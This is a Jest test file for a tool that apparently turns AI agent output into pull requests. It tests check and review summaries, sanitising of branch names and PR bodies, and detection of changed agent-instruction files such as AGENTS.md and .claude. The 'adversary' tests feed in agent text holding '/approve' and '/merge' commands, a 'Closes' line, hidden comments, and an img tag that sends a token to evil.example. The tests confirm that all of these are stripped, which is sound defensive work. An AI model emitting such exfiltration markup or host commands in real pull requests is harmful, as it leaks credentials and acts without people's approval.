import { describe, expect, it } from '@jest/globals';
import { type HostTree, ProviderRefusal, type RefusalKind } from '@slipway/integrations';
import type { TreeEntry } from './bundle/git-objects.js';
import type { VerifiedBundle } from './bundle/verify-bundle.js';
import { changedProtectedPaths, listOf } from './protected-paths.js';
import { reviewOf, summaryOf } from './pull-request-state.js';
import { bodyOf, branchName, titleOf } from './texts.js';

describe('checks and reviews of a pull request', () => {
  it('are together what the worst of the checks is', () => {
    const of = (...states: Parameters<typeof summaryOf>[0][number]['state'][]): unknown =>
      summaryOf(states.map((state) => ({ state }))).state;
    expect([
      of(),
      of('neutral'),
      of('success', 'neutral'),
      of('success', 'pending'),
      of('pending', 'failure', 'success'),
    ]).toEqual(['none', 'neutral', 'success', 'pending', 'failure']);
  });

  it('are what each reviewer said last, where a comment takes nothing back', () => {
    const of = (...said: [userId: string, verdict: 'approved' | 'changes-requested' | 'commented'][]): string =>
      reviewOf(said.map(([userId, verdict]) => ({ userId, verdict })));
    expect(of()).toBe('none');
    expect(of(['a', 'commented'])).toBe('commented');
    expect(of(['a', 'changes-requested'], ['a', 'approved'], ['a', 'commented'])).toBe('approved');
    expect(of(['a', 'approved'], ['b', 'changes-requested'])).toBe('changes-requested');
  });
});

describe('texts of a pull request', () => {
  it('name a branch that every git host takes, whatever the title says', () => {
    const id = '0198c0de-7a1b-7000-8000-3f6c5d2e9b10';
    expect(branchName(id, 'Fix: the “login” — naïve ../..  ~^:?*[\\ @{')).toBe('slipway/5d2e9b10-fix-the-login-nai-ve');
    expect(branchName(id, '修复')).toBe('slipway/5d2e9b10');
    expect(titleOf('a\nb\u0000c')).toBe('a b c');
  });

  it('adversary: an agent that mentions people, shows pictures or hides text does none of it in our name', () => {
    const body = bodyOf({
      given: undefined,
      said: 'Hi @ada and @org/team, ![x](https://e/x.png) <!-- secret --> a@b.example',
      issue: 7,
      page: null,
      conversationId: 'c',
      template: null,
      checked: '',
    });
    expect(body).not.toMatch(/(^|\s)@\w|!\[|secret/);
    expect(body).toMatch(/^Hi [\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
  });

  it('adversary: an agent instructed to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
    const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
    const body = bodyOf({
      given: undefined,
      said,
      issue: null,
      page: null,
      conversationId: 'c',
      template: null,
      checked: '',
    });
    expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
  });

  it('adversary: commands of the host in a user’s text are not carried out', () => {
    const body = bodyOf({
      given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too',
      said: null,
      issue: null,
      page: null,
      conversationId: 'c',
      template: null,
      checked: '',
    });
    expect(body).not.toMatch(/^\s*\/[a-z]/m);
    expect(body).toContain('See `a/b`.');
  });
});

describe('protected paths of a branch', () => {
  const entry = (name: string, hash: string, kind: TreeEntry['kind'] = 'file'): TreeEntry => ({ name, hash, kind });
  const changed = (
    own: Record<string, readonly TreeEntry[]>,
    host: Record<string, Record<string, string>>,
    whole = true,
  ): Promise<readonly string[]> => {
    const bundle = { tree: 'new', folder: (hash: string) => own[hash] } as unknown as VerifiedBundle;
    return changedProtectedPaths(bundle, [() => Promise.resolve('old')], async ({ hash: sha }): Promise<HostTree> => {
      if (host[sha] === undefined) throw new Error(`nobody needs ${sha}`);
      return {
        whole,
        entries: new Map(Object.entries(host[sha])),
        folders: new Set(Object.keys(host[sha]).filter((name) => !name.includes('.'))),
      };
    });
  };

  it('are untouched when what stands there is the same, without reading it', async () => {
    expect(
      await changed({ new: [entry('.github', 'g', 'folder'), entry('a', '2')] }, { old: { '.github': 'g', a: '1' } }),
    ).toEqual([]);
    expect(
      await changed(
        { new: [entry('.github', 'g2', 'folder')], g2: [entry('ISSUES.md', '2')] },
        { old: { '.github': 'g1' }, g1: { 'ISSUES.md': '1' } },
      ),
    ).toEqual([]);
  });

  it('adversary: a change, a removal, and a folder of the base that is put in their place are all seen', async () => {
    const old = { '.github': 'g1', 'AGENTS.md': 'x', examples: 'e' };
    expect(
      await changed(
        { new: [entry('.github', 'g2', 'folder')], g2: [entry('workflows', 'w2', 'folder')] },
        { old, g1: { workflows: 'w1' } },
      ).catch(String),
    ).toEqual(['.github/workflows', 'AGENTS.md']);
    expect(
      await changed(
        { new: [entry('.gitea', 'e', 'folder'), entry('AGENTS.md', 'x'), entry('.github', 'g1', 'folder')] },
        { old, e: { workflows: 'w' } },
      ),
    ).toEqual(['.gitea/workflows']);
  });

  it('are at any depth those that instruct agents: new, changed or gone', async () => {
    const own = {
      new: [entry('src', 's2', 'folder'), entry('README.md', 'r')],
      s2: [
        entry('api', 'a2', 'folder'),
        entry('web', 'w', 'folder'),
        entry('new', 'n', 'folder'),
        entry('AGENTS.md', 'x2'),
        entry('gone', 'g2', 'folder'),
      ],
      a2: [entry('.claude', 'c2', 'folder'), entry('index.ts', 'i2')],
      n: [entry('claude.md', 'm'), entry('a.ts', 'a')],
      g2: [entry('b.ts', 'b')],
    };
    const host = {
      old: { src: 's1', 'README.md': 'r' },
      s1: { api: 'a1', web: 'w', 'AGENTS.md': 'x1', gone: 'g1' },
      a1: { '.claude': 'c1', 'index.ts': 'i1' },
      g1: { 'b.ts': 'b', 'GEMINI.md': 'y' },
    };
    expect([...(await changed(own, host))].sort()).toEqual([
      'src/AGENTS.md',
      'src/api/.claude',
      'src/gone/GEMINI.md',
      'src/new/claude.md',
    ]);
    // Files beside them are no instructions, and equal folders are skipped.
    const beside = {
      new: [entry('src', 's2', 'folder')],
      s2: [entry('AGENTS.md', 'x1'), entry('web', 'w', 'folder'), entry('index.ts', 'i2')],
    };
    expect(
      await changed(beside, { old: { src: 's1' }, s1: { 'AGENTS.md': 'x1', web: 'w', 'index.ts': 'i1' } }),
    ).toEqual([]);
  });

  it('adversary: a folder of the repository that has instructions is seen where it is moved, however deep, and one that the host does not show is named', async () => {
    const own = {
      new: [entry('src', 's2', 'folder'), entry('examples', 'e', 'folder')],
      s2: [entry('lib', 'inner', 'folder')],
    };
    const host = {
      old: { src: 's1', examples: 'e' },
      s1: { lib: 'l1' },
      inner: { deep: 'd', 'a.ts': '1' },
      d: { 'AGENTS.md': 'evil' },
      l1: { 'a.ts': '1' },
    };
    expect(await changed(own, host)).toEqual(['src/lib/deep/AGENTS.md']);
    const { inner: _, ...hidden } = host;
    const refusal = new ProviderRefusal('not by its hash', {
      kind: 'missing',
      status: null,
      retryAt: null,
      outcomeUnknown: false,
    });
    const bundle = {
      tree: 'new',
      folder: (hash: string) => own[hash as keyof typeof own],
    } as unknown as VerifiedBundle;
    const of = (...commits: string[]): Promise<readonly string[]> =>
      changedProtectedPaths(
        bundle,
        commits.map((each) => () => Promise.resolve(each)),
        ({ hash }) => {
          const found: Record<string, string> | undefined = { ...hidden, moved: { src: 'sm' }, sm: { lib: 'inner' } }[
            hash
          ];
          return found === undefined
            ? Promise.reject(refusal)
            : Promise.resolve({ whole: true, entries: new Map(Object.entries(found)), folders: new Set() });
        },
      );
    expect(await of('old')).toEqual(['src/lib']);
    // The branch at the host has it already.
    expect(await of('old', 'moved')).toEqual([]);
  });

  it('adversary: more folders than are asked for still have their own instructions seen', async () => {
    const many = Array.from({ length: 400 }, (_, index) => `f${index}`);
    const own: Record<string, readonly TreeEntry[]> = { new: many.map((name) => entry(name, `${name}-2`, 'folder')) };
    for (const name of many)
      own[`${name}-2`] = [entry('a.ts', '2'), ...(name === 'f399' ? [entry('AGENTS.md', 'x')] : [])];
    const host: Record<string, Record<string, string>> = {
      old: Object.fromEntries(many.map((name) => [name, `${name}-1`])),
    };
    for (const name of many) host[`${name}-1`] = { 'a.ts': '1' };
    expect(await changed(own, host)).toEqual(['f399/AGENTS.md']);
    expect(listOf(many)).toMatch(/^f0, .*, f19 and 380 more$/);
  });

  it('are untouched when another commit of the host holds the same, which is not asked for without need', async () => {
    const bundle = {
      tree: 'new',
      folder: (hash: string) => (hash === 'new' ? [entry('AGENTS.md', 'x')] : undefined),
    } as unknown as VerifiedBundle;
    const trees: Record<string, Record<string, string>> = { moved: { 'AGENTS.md': 'y' }, fork: { 'AGENTS.md': 'x' } };
    const asked: string[] = [];
    const at = (name: string | null) => async () => {
      asked.push(String(name));
      return name;
    };
    const of = (...commits: (string | null)[]): Promise<readonly string[]> =>
      changedProtectedPaths(bundle, commits.map(at), async ({ hash: sha }) => ({
        whole: true,
        entries: new Map(Object.entries(trees[sha] ?? {})),
        folders: new Set(),
      }));
    expect(await of('moved', null, 'fork', 'never')).toEqual([]);
    expect(asked).toEqual(['moved', 'null', 'fork']);
    expect(await of('moved', null)).toEqual(['AGENTS.md']);
  });

  it('adversary: a base that the git host does not show has all of them taken for changed', async () => {
    const bundle = {
      tree: 'new',
      folder: (hash: string) => (hash === 'new' ? [entry('a', '1')] : undefined),
    } as unknown as VerifiedBundle;
    const refusal = (kind: RefusalKind): ProviderRefusal =>
      new ProviderRefusal(kind, { kind, status: null, retryAt: null, outcomeUnknown: false });
    const of = (kind: RefusalKind): Promise<readonly string[]> =>
      changedProtectedPaths(bundle, [() => Promise.resolve('old')], () => Promise.reject(refusal(kind)));
    expect(await of('missing')).toEqual(expect.arrayContaining(['.github/workflows', 'AGENTS.md']));
    expect(await of('unreadable')).toEqual(await of('missing'));
    // It is asked again later.
    await expect(of('unavailable')).rejects.toMatchObject({ kind: 'unavailable' });
  });
});
